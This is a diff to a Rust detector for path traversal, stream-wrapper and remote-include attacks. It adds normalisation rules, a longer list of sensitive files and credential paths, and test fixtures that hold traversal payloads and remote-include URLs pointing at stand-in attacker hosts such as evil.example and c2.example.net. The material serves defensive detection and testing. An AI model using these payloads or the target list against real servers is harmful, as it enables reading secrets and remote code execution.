@@ -5,26 +5,38 @@
 //! The value is normalised as a file API would see it: percent-escapes decoded
 //! (twice, for double encoding), overlong UTF-8 slashes and dots (`%c0%af`,
 //! `%c0%ae`, `%e0%80%af`) and `%u2215`/`%u002e`-style escapes read as `/` and `.`,
-//! backslashes read as `/`, NUL and what follows dropped (the C string ends there).
-//! Then a value is an attack when:
+//! backslashes read as `/`, repeated slashes read as one (a leading `//` stays),
+//! NUL and what follows dropped (the C string ends there), and the trailing dots,
+//! spaces and `::$DATA` that Windows ignores dropped. Then a value is an attack when:
 //!
 //! - **escaping the root**: walking its path segments, `..` takes the depth below
 //!   the start (`../`, `foo/../../`), with at least two `..` segments, or one `..`
-//!   followed by a sensitive name;
+//!   followed by a sensitive name; or two `..` segments and a sensitive name
+//!   anywhere (`/var/www/uploads/../../../../config/database.yml`);
+//! - **a path parameter or alias trick**: a `..;x` segment (Tomcat reads it as `..`)
+//!   or a `name..` segment before a `/` (it climbs out of an nginx alias that lacks
+//!   its slash);
 //! - **naming a sensitive file**: a path (absolute, `file:`, or after `..`) that ends
 //!   in a known sensitive file or directory: `/etc/passwd`, `/etc/shadow`,
-//!   `/proc/self/environ`, `boot.ini`, `win.ini`, `web.config`, `WEB-INF/web.xml`,
-//!   `.htaccess`, `.env`, `id_rsa`, `.git/config`, ... (a bare name like `.env` alone
-//!   counts only with a path separator before it);
+//!   `/proc/self/environ`, `/etc/ssh/`, `boot.ini`, `win.ini`, `web.config`,
+//!   `WEB-INF/web.xml`, `.htaccess`, `.env`, `id_rsa`, `.git/config`, framework
+//!   secrets (`config/database.yml`, `secrets.yml`, `appsettings.json`,
+//!   `settings.py`), `/var/run/secrets/`, `actuator/env`, ... ([`SENSITIVE`]; a bare
+//!   name like `.env` alone counts only with a path separator before it);
 //! - **a stream wrapper**: `php://filter`, `php://input`, `expect://`, `phar://`,
-//!   `zip://`, `data://text/plain;base64`, `file://`, `glob://`, `jar:`;
-//! - **a remote include**: an `http(s)`/`ftp` URL whose path ends in a script or
-//!   text file followed by `?` (the include trick `http://x/shell.txt?`), at the
-//!   start of the value or after `/`, `=`, `?`, `&`, `(` or a quote inside it.
+//!   `zip://`, `data://text/plain;base64`, `file://`, `glob://`, `jar:`,
+//!   `compress.zlib://`, `ogg://`, `ssh2.`;
+//! - **a remote include**: a URL to another host (`http`, `https`, `ftp`, a
+//!   scheme-relative `//host/`, or a UNC `\\host\share\`) whose last path segment
+//!   is a script (`.php`, `.jsp`, `.asp`, `.cgi`, `.pl`, `.sh`, ...) with no query,
+//!   or a script or text file followed by `?`, `#` or a NUL (the application's own
+//!   suffix becomes a query: `http://x/shell.txt?`), or a `.txt` over FTP; or a
+//!   scheme written in mixed case (`hTTp://`, a filter evasion). At the start of the
+//!   value or after `/`, `=`, `?`, `&`, `(` or a quote inside it.
 //!
 //! Linear: the normalisation is two passes, and the segment walk is one.
 
-use crate::text::{Words, find_ci, starts_with_ci};
+use crate::text::{Words, find_ci};
 use crate::{Class, Finding};
 use std::sync::LazyLock;
 
@@ -66,6 +78,32 @@ pub(crate) const SENSITIVE: &[&str] = &[
     "localsettings.php",
     "applicationhost.config",
     "sam",
+    "etc/ssh/",
+    "etc/mysql/",
+    "etc/nginx/",
+    "etc/apache2/",
+    "etc/httpd/",
+    "httpd.conf",
+    "php.ini",
+    "my.cnf",
+    "unattend.xml",
+    "config/database.yml",
+    "config/secrets.yml",
+    "config/master.key",
+    "database.yml",
+    "secrets.yml",
+    "appsettings.json",
+    "settings.py",
+    "application.properties",
+    "application.yml",
+    "var/run/secrets/",
+    "storage/logs/",
+    "laravel.log",
+    ".aws/",
+    ".docker/",
+    ".kube/",
+    "actuator/env",
+    "actuator/heapdump",
 ];
 
 /// Stream wrappers that read local files or run code.
@@ -93,6 +131,7 @@ pub(crate) fn may_match(input: &[u8]) -> bool {
         .iter()
         .any(|&c| matches!(c, b'%' | b'\\' | b':') || c >= 0x80)
         || memchr::memmem::find(input, b"..").is_some()
+        || memchr::memmem::find(input, b"//").is_some()
         || SENSITIVE_WORDS.any(input)
 }
 
@@ -119,7 +158,10 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
             return Some(Finding::new(Class::Traversal, "stream wrapper", whole));
         }
     }
-    if remote_include(p) {
+    let nul_cut = memchr::memchr(0, input).is_some()
+        || find_ci(input, 0, b"%00").is_some()
+        || find_ci(input, 0, b"%2500").is_some();
+    if remote_include(p, nul_cut) {
         return Some(Finding::new(Class::Traversal, "remote include", whole));
     }
     // Walk the segments.
@@ -133,6 +175,22 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
             continue;
         }
         let seg = &p[seg_start..i];
+        // `..;x` is `..` to Tomcat (a path parameter), and `assets..` climbs out of
+        // an nginx alias that lacks its slash: no file is named either way.
+        if i < p.len()
+            && seg.len() > 2
+            && (seg.starts_with(b"..;")
+                || (seg.ends_with(b"..")
+                    && seg[..seg.len() - 2]
+                        .iter()
+                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))))
+        {
+            return Some(Finding::new(
+                Class::Traversal,
+                "path parameter or alias traversal",
+                whole,
+            ));
+        }
         match seg {
             b".." => {
                 ups += 1;
@@ -158,7 +216,7 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
         seg_start = i + 1;
     }
     let sensitive = sensitive_at(p);
-    if escaped && (ups >= 2 || sensitive.is_some()) {
+    if (escaped && (ups >= 2 || sensitive.is_some())) || (ups >= 2 && sensitive.is_some()) {
         return Some(Finding::new(
             Class::Traversal,
             "path escapes its root",
@@ -204,31 +262,65 @@ fn sensitive_at(p: &[u8]) -> Option<usize> {
     None
 }
 
-/// An `http(s)`/`ftp` URL whose last path segment is a script or text file and which
-/// ends with `?` or holds a query of its own: the shape of a remote include. The URL
-/// starts the value, or follows `/`, `=`, `?`, `&`, `(` or a quote inside it (a path
-/// or parameter list that carries it, `/api/items/http://x/shell.txt?`).
-fn remote_include(p: &[u8]) -> bool {
+/// Extensions of files a remote include runs or reads.
+const SCRIPT_EXTENSIONS: &[&str] = &[
+    ".php", ".php3", ".php4", ".php5", ".php7", ".phtml", ".phar", ".inc", ".txt", ".jsp", ".jspx",
+    ".asp", ".aspx", ".cgi", ".pl", ".py", ".sh", ".shtml",
+];
+
+/// A remote include: a URL to another host (`http`, `https`, `ftp`, a
+/// scheme-relative `//host/...`, or a UNC `\\host\share\...`, which normalisation
+/// turns into one) whose last path segment is a script or text file with no query
+/// of its own, or that ends with `?` or `#` (so that the application's own suffix
+/// becomes a query), or whose scheme mixes upper and lower case (`hTTp://`, a filter
+/// evasion). The URL starts the value, or follows `/`, `=`, `?`, `&`, `(` or a quote
+/// inside it (`/api/items/http://x/shell.txt?`). `nul_cut` says the raw value had a
+/// NUL byte where normalisation stopped (`shell.txt%00`).
+fn remote_include(p: &[u8], nul_cut: bool) -> bool {
     let t = p.trim_ascii();
-    let ends_with_q = t.ends_with(b"?") || t.ends_with(b"%00") || t.ends_with(b"#");
-    if !ends_with_q {
-        return false;
-    }
-    let script = [
-        ".txt", ".php", ".jsp", ".asp", ".sh", ".pl", ".py", ".cgi", ".inc",
-    ]
-    .iter()
-    .any(|ext| find_ci(t, 0, ext.as_bytes()).is_some());
-    if !script {
-        return false;
-    }
-    if starts_with_ci(t, 0, b"\\\\") {
-        return true;
-    }
+    let starts =
+        |at: usize| at == 0 || matches!(t[at - 1], b'/' | b'=' | b'?' | b'&' | b'(' | b'"' | b'\'');
     static SCHEMES: LazyLock<Words> =
         LazyLock::new(|| Words::new(&["http://", "https://", "ftp://"]));
-    SCHEMES.find_all(t).any(|(_, at, _)| {
-        at == 0 || matches!(t[at - 1], b'/' | b'=' | b'?' | b'&' | b'(' | b'"' | b'\'')
+    let mut urls: Vec<(usize, usize)> = SCHEMES
+        .find_all(t)
+        .filter(|&(_, at, _)| starts(at))
+        .map(|(_, at, end)| (at, end))
+        .take(8)
+        .collect();
+    if t.starts_with(b"//") && t.get(2).is_some_and(u8::is_ascii_alphanumeric) {
+        urls.push((0, 2));
+    }
+    urls.into_iter().any(|(at, host_from)| {
+        let scheme = &t[at..host_from];
+        let mixed =
+            scheme.iter().any(u8::is_ascii_uppercase) && scheme.iter().any(u8::is_ascii_lowercase);
+        let rest = &t[host_from..];
+        let Some(slash) = rest.iter().position(|&c| c == b'/') else {
+            return mixed && at == 0;
+        };
+        let path_end = rest
+            .iter()
+            .position(|&c| matches!(c, b'?' | b'#'))
+            .unwrap_or(rest.len());
+        if slash >= path_end {
+            return mixed && at == 0;
+        }
+        let path = &rest[slash..path_end];
+        let ext = SCRIPT_EXTENSIONS.iter().find(|e| {
+            path.len() > e.len() && path[path.len() - e.len()..].eq_ignore_ascii_case(e.as_bytes())
+        });
+        let cut = path_end + 1 == rest.len() || nul_cut;
+        let no_query = path_end == rest.len();
+        // A text file is read, not run: only with the application's suffix cut off
+        // (or over FTP, which no page links to); a script runs as it is.
+        let ftp = scheme.eq_ignore_ascii_case(b"ftp://");
+        let remote = match ext {
+            Some(&".txt") => cut || (ftp && no_query),
+            Some(_) => cut || no_query,
+            None => false,
+        };
+        (mixed && at == 0) || remote
     })
 }
 
@@ -272,10 +364,21 @@ fn normalise(input: &[u8]) -> Vec<u8> {
         }
         match b {
             0 => break,
+            // `//etc//passwd` is `/etc/passwd` to a file API (a leading `//` stays:
+            // it starts a host or a share).
+            b'\\' | b'/'
+                if out.len() > 1 && out.last() == Some(&b'/') && out[out.len() - 2] != b':' => {}
             b'\\' => out.push(b'/'),
             _ => out.push(b),
         }
         i += 1;
+    }
+    // Windows drops trailing dots and spaces, and `::$DATA` names the file itself.
+    if out.len() > 7 && out[out.len() - 7..].eq_ignore_ascii_case(b"::$data") {
+        out.truncate(out.len() - 7);
+    }
+    while out.len() > 1 && matches!(out.last(), Some(b'.' | b' ')) && out[out.len() - 2] != b'.' {
+        out.pop();
     }
     out
 }
@@ -350,6 +453,19 @@ mod tests {
             "data://text/plain;base64,PD9waHAgc3lzdGVtKCk7Pz4=",
             "http://evil.example/shell.txt?",
             "/api/items/http://evil.example/shell.txt?",
+            "ftp://files.attacker.example/ru.txt",
+            "https://c2.example.net/shell.php",
+            "//evil.example/x/shell.php",
+            "\\\\evil.example\\share\\shell.php",
+            "hTTp://evil.example/payload",
+            "http://evil.example/shell.txt%00",
+            "C:\\wIndowS\\WiN.InI.",
+            "C:\\inetpub\\wwwroot\\web.config::$DATA",
+            "/assets../config/secrets.yml",
+            "//var//run//secrets//kubernetes.io//serviceaccount//token",
+            "/app/..;/actuator/env",
+            "./../config/database.yml#",
+            "/var/www/html/uploads/.%2e/../%2e%2e%2f.././config/database.yml",
             "../../WEB-INF/web.xml",
             "/proc/self/environ",
             "C:\\boot.ini",
@@ -374,6 +490,9 @@ mod tests {
             "my .env file is safe",
             "samples/sam.txt",
             "http://example.com/readme.txt",
+            "https://example.com/index.php?page=2",
+            "//cdn.example.com/app.js",
+            "see https://example.com/docs/setup.txt for more",
             "2024-01-01",
             "C'est la vie...",
         ] {
